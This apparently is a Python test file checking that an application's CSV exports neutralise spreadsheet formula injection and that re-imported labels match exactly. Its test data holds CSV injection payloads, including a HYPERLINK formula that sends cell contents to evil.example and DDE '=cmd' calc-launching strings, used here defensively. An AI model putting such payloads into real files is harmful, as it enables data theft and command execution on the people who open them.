"""CSV exports never hold a live spreadsheet formula (OWASP CSV injection), and our own
import reads back exactly the labels that were written."""

import csv

from hypothesis import given
from hypothesis import strategies as st

from klgui.model.document import Document
from klgui.io.csv_export import save_summary, save_table
from klgui.io.csv_import import read_delimited
from klgui.io.formula_guard import escape_cell, unescape_cell, unescape_cells

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(A1:A9)",
           "=cmd|' /C calc'!A0", "+1", "-1..0", "'=already quoted", "''@two quotes",
           "'plain quote", "''", "sun, with a comma", "=", "-"]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _cells(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_hostile_labels_are_written_inert_and_read_back_exactly(tmp_path):
    q = ["1"] * len(HOSTILE)
    q[2] = "0"  # an infinite term, so infinite_pq_outcomes names a hostile label
    doc = Document(HOSTILE, [str(i + 1) for i in range(len(HOSTILE))], q)
    c = doc.result().comparison
    table, summary = tmp_path / "table.csv", tmp_path / "summary.csv"
    save_table(table, doc.labels, doc.texts("P"), doc.texts("Q"), c)
    save_summary(summary, c, labels=doc.labels, source="=evil|'/C calc'!A0.csv")

    rows = _cells(table)
    for cell in (cell for row in rows + _cells(summary) for cell in row):
        assert not cell.startswith(TRIGGERS) or _is_number(cell), cell
    assert [row[0] for row in rows[1:]] == [
        "'" + label if label.lstrip("'")[:1] in TRIGGERS else label for label in HOSTILE]
    # numbers stay numbers: negative terms are written as they are, readable as floats
    assert any(row[5].startswith("-") for row in rows[1:])
    assert [float(row[5]) for row in rows[1:]] == c.contributions_pq.tolist()
    summary_rows = {row[0]: row[1] for row in _cells(summary)}
    assert summary_rows["source"] == "'=evil|'/C calc'!A0.csv"
    assert summary_rows["infinite_pq_outcomes"] == "'=cmd|' /C calc'!A0"

    back = read_delimited(table)
    columns, sure = back.guess()
    assert sure
    outcomes = back.outcomes(columns)
    assert outcomes.labels == HOSTILE
    assert outcomes.p == list(doc.texts("P")) and outcomes.q == list(doc.texts("Q"))


def test_a_window_export_reimports_to_the_same_labels(window, qtbot, dialogs, tmp_path):
    labels = ["=1+1", "@x", "'-y"]
    with qtbot.waitSignal(window.sigRefreshed):
        window.edits.load(labels, ["1", "2", "3"], ["3", "2", "1"], name="hostile")
    dialogs.save_paths = [tmp_path / "t.csv"]
    assert window.files.export_table()
    assert [row[0] for row in _cells(tmp_path / "t.csv")] == ["outcome", "'=1+1", "'@x", "''-y"]
    assert window.files.import_csv(tmp_path / "t.csv")
    assert list(window.document.labels) == labels


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab1 "), max_size=8) | st.text(max_size=8))
def test_escaping_is_reversible_and_never_starts_with_a_trigger(text):
    written = escape_cell(text)
    assert not written.startswith(TRIGGERS)
    assert unescape_cell(written) == text
    assert unescape_cells([written, text]) == [text, unescape_cell(text)]
